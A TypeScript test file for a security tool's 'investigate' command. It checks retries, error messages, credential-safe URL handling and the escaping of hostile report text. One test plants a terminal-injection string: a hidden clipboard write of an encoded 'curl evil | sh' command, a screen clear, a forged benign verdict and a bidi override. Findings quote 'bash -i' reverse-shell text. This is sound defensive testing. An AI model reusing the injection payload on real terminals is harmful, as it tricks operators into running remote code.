// `inquest investigate` against a gateway that misbehaves (docs/api.md#cli): a scripted HTTP server stands in for
// it, so each answer (unreachable, not JSON, a passing 503, a dropped connection, 403) comes exactly when wanted.
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { test, type Test } from "tap";
import { cliAsync } from "../helpers/cli.js";
import { freePort } from "../../shared/net.js";

type Handler = (req: IncomingMessage, res: ServerResponse) => void;

/** A gateway answering POST /v1/investigations with `post` and each GET of the investigation with the next of `gets`. */
async function scriptedGateway(t: Test, post: Handler, gets: Handler[] = []): Promise<{ url: string; getTimes: number[] }> {
  const getTimes: number[] = [];
  const server = createServer((req, res) => {
    if (req.method === "POST") return post(req, res);
    getTimes.push(Date.now());
    const next = gets.shift();
    if (next) return next(req, res);
    res.writeHead(500).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.teardown(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, getTimes };
}

const json = (status: number, body: unknown, headers: Record<string, string> = {}): Handler => (_req, res) => {
  res.writeHead(status, { "content-type": "application/json", ...headers }).end(JSON.stringify(body));
};
const queued = json(202, { investigation_id: "inv_1", status: "queued" });
const detail = (status: string) => ({
  investigation_id: "inv_1", status, query: "q", progress: { phase: "collecting", plans_total: 1, plans_completed: status === "completed" ? 1 : 0 },
  summary: status === "completed" ? { narrative: "all quiet", severity: "info", verdict: "benign", findings_count: 0 } : null, findings: [], error: null,
});
const investigate = (url: string) => cliAsync(["investigate", "any cryptominers?"], { INQUEST_URL: url, INQUEST_KEY: "inq_test" });

test("a gateway that cannot be reached is named, with the reason", async (t) => {
  const url = `http://127.0.0.1:${await freePort()}`;
  const r = await investigate(url);
  t.equal(r.status, 1, r.stderr);
  t.match(r.stderr, `cannot reach the gateway at ${url}`);
  t.match(r.stderr, /ECONNREFUSED/);
  t.notMatch(r.stderr, /^inquest: fetch failed$/m);
});

test("an answer that is not JSON is a clear error naming the status, not a JSON parse error", async (t) => {
  const gw = await scriptedGateway(t, (_req, res) => res.writeHead(502, { "content-type": "text/html" }).end("<html>Bad Gateway</html>"));
  const r = await investigate(gw.url);
  t.equal(r.status, 1, r.stderr);
  t.match(r.stderr, /POST .*\/v1\/investigations answered 502 with a body that is not JSON \(text\/html\): <html>Bad Gateway/);
  t.notMatch(r.stderr, /Unexpected token/);
  const follow = await scriptedGateway(t, queued, [(_req, res) => res.writeHead(200, { "content-type": "text/plain" }).end("ok")]);
  const f = await investigate(follow.url);
  t.equal(f.status, 1, f.stderr);
  t.match(f.stderr, /GET .*\/v1\/investigations\/inv_1 answered 200 with a body that is not JSON \(text\/plain\): ok/);
});

test("a passing 503 or a dropped connection while following is waited out, honoring Retry-After", async (t) => {
  const unavailable = json(503, { error: { code: "unavailable", message: "NATS unreachable" } }, { "retry-after": "1" });
  const drop: Handler = (req) => req.socket.destroy();
  const gw = await scriptedGateway(t, queued, [unavailable, drop, json(200, detail("running")), json(200, detail("completed"))]);
  const r = await investigate(gw.url);
  t.equal(r.status, 0, r.stderr);
  t.match(r.stdout, /verdict: benign/, "the report, once the gateway is back");
  t.match(r.stderr, /503 NATS unreachable; retrying in 1s/);
  t.ok((gw.getTimes[1] as number) - (gw.getTimes[0] as number) >= 950, `Retry-After: 1 waited (${(gw.getTimes[1] as number) - (gw.getTimes[0] as number)} ms)`);
  t.notMatch(r.stderr, /investigations:read/);
});

test("a gateway that stays unavailable is given up on after a few tries, without the scope hint", async (t) => {
  const unavailable = json(503, { error: { code: "unavailable", message: "NATS unreachable" } }, { "retry-after": "0" });
  const gw = await scriptedGateway(t, queued, Array.from({ length: 10 }, () => unavailable));
  const r = await investigate(gw.url);
  t.equal(r.status, 1, r.stderr);
  t.equal(gw.getTimes.length, 6, "the first call and five retries");
  t.match(r.stderr, /cannot follow inv_1: 503 NATS unreachable/);
  t.notMatch(r.stderr, /investigations:read/);
});

test("only a 403 gets the scope hint; other refusals are reported as they are, at once", async (t) => {
  const refusal = (status: number, code: string) => json(status, { error: { code, message: `${code} here` } });
  const forbidden = await scriptedGateway(t, queued, [refusal(403, "forbidden")]);
  const f = await investigate(forbidden.url);
  t.equal(f.status, 1);
  t.match(f.stderr, /cannot follow inv_1: 403 forbidden here \(the key needs investigations:read\)/);
  for (const [status, code] of [[401, "unauthorized"], [404, "not_found"]] as const) {
    const gw = await scriptedGateway(t, queued, [refusal(status, code)]);
    const r = await investigate(gw.url);
    t.equal(r.status, 1, r.stderr);
    t.match(r.stderr, `cannot follow inv_1: ${status} ${code} here`);
    t.notMatch(r.stderr, /investigations:read/, `no scope hint on ${status}`);
    t.equal(gw.getTimes.length, 1, `${status} is not retried`);
  }
});

test("text from agents reaches the terminal as text: control and escape sequences are shown, not obeyed", async (t) => {
  // A user on a monitored host writes the shell history, process names and hostnames the report quotes.
  const esc = "\u001b";
  const planted = `${esc}]52;c;Y3VybCBldmlsIHwgc2g=\u0007${esc}[2J${esc}[1A\rverdict: benign\u009b31m\u202eevil`;
  const finding = {
    detection_id: "history-tampering", title: `T${planted}`, severity: "high", confidence: 0.9, agent_id: "ag-1",
    hostname: `web-01${planted}`, summary: `root ran "unset HISTFILE${planted}"\nforged line`, evidence: [], attack: [],
  };
  const done = {
    ...detail("completed"),
    error: { code: "x", message: planted },
    summary: { narrative: `First paragraph.\n\nOne host${planted}.`, severity: "high", verdict: "malicious", findings_count: 1 },
    findings: [finding],
  };
  const gw = await scriptedGateway(t, queued, [json(200, done)]);
  const r = await investigate(gw.url);
  t.equal(r.status, 0, r.stderr);
  t.notMatch(r.stdout, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, "no control character from the report reaches the terminal");
  t.match(r.stdout, "web-01\\x1b]52;c;", "shown escaped, so the operator sees it was there");
  t.match(r.stdout, "First paragraph.\n\nOne host", "the narrative keeps its paragraphs");
  t.match(r.stdout, /^- \[high\] .*forged line$/m, "a finding stays on its own line: a newline in its text does not start a forged one");
  const failed = await scriptedGateway(t, queued, [json(200, { ...detail("failed"), error: { code: "x", message: `boom${planted}` } })]);
  const f = await investigate(failed.url);
  t.equal(f.status, 1, f.stderr);
  t.notMatch(f.stdout, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, "nor from a failed run's error");
});

test("each finding is printed once: the narrative's own list, then the rest, then how many there are in all", async (t) => {
  const finding = (n: number, severity: string) => ({
    finding_id: `fnd_${n}`, detection_id: "reverse-shell", title: `Reverse shell ${n}`, severity, confidence: 0.9, agent_id: `ag-${n}`,
    hostname: `web-${n}`, summary: `bash -i on web-${n}`, evidence: [], attack: [],
  });
  const findings = [finding(1, "high"), finding(2, "high"), finding(3, "medium")];
  const listed = findings.slice(0, 2).map((f) => `- [${f.severity}] ${f.title} on ${f.hostname} (confidence 0.90): ${f.summary}`);
  const done = {
    ...detail("completed"),
    summary: { narrative: ["Found 250 findings on 250 hosts:", ...listed, "- and 248 more."].join("\n"), severity: "high", verdict: "malicious", findings_count: 250 },
    findings,
    findings_total: 250,
  };
  const gw = await scriptedGateway(t, queued, [json(200, done)]);
  const r = await investigate(gw.url);
  t.equal(r.status, 0, r.stderr);
  for (const f of findings) t.equal(r.stdout.split(`${f.title} on ${f.hostname}`).length - 1, 1, `${f.title} once`);
  t.match(r.stdout, /More findings:\n- \[medium\] Reverse shell 3 on web-3: bash -i on web-3/, "the one the narrative did not list, after it");
  t.match(r.stdout, "250 findings in all, 3 shown; every one: GET /v1/investigations/inv_1/findings");
});

test("a gateway URL that is not usable is a usage error that never prints its credentials", async (t) => {
  const withPassword = await cliAsync(["investigate", "q", "--url", "http://ops:hunter2secret@127.0.0.1:1"], { INQUEST_KEY: "inq_test" });
  t.equal(withPassword.status, 2, withPassword.stderr);
  t.notMatch(withPassword.stderr + withPassword.stdout, "hunter2secret", "the password is not printed");
  t.match(withPassword.stderr, /credentials/, "saying why the URL is refused");
  const fromEnv = await cliAsync(["investigate", "q"], { INQUEST_URL: "https://ops:hunter2secret@gw.example", INQUEST_KEY: "inq_test" });
  t.equal(fromEnv.status, 2, fromEnv.stderr);
  t.notMatch(fromEnv.stderr, "hunter2secret");
  const notUrl = await cliAsync(["investigate", "q", "--url", "gw.example:8080"], { INQUEST_KEY: "inq_test" });
  t.equal(notUrl.status, 2, notUrl.stderr);
  t.match(notUrl.stderr, /--url .*gw\.example:8080.* http/, "names the value and what is expected, not only 'Invalid URL'");
});

test("a depth or mode the API does not know is a usage error naming the choices; a refused trigger names each field", async (t) => {
  const depth = await cliAsync(["investigate", "q", "--depth", "huge"], { INQUEST_URL: "http://127.0.0.1:1", INQUEST_KEY: "inq_test" });
  t.equal(depth.status, 2, depth.stderr);
  t.match(depth.stderr, /--depth is one of quick, standard, deep, got huge/);
  const mode = await cliAsync(["investigate", "q", "--mode", "psychic"], { INQUEST_URL: "http://127.0.0.1:1", INQUEST_KEY: "inq_test" });
  t.equal(mode.status, 2, mode.stderr);
  t.match(mode.stderr, /--mode is one of auto, cached, live, got psychic/);
  const refused = json(400, { error: { code: "validation_failed", message: "the request body is not valid", details: [{ path: "/query", message: "must NOT have more than 2000 characters\u001b[2J" }] } });
  const gw = await scriptedGateway(t, refused);
  const r = await investigate(gw.url);
  t.equal(r.status, 1, r.stderr);
  t.match(r.stderr, /400 the request body is not valid\n {2}\/query: must NOT have more than 2000 characters\\x1b\[2J/, "each detail on its line, as text");
});
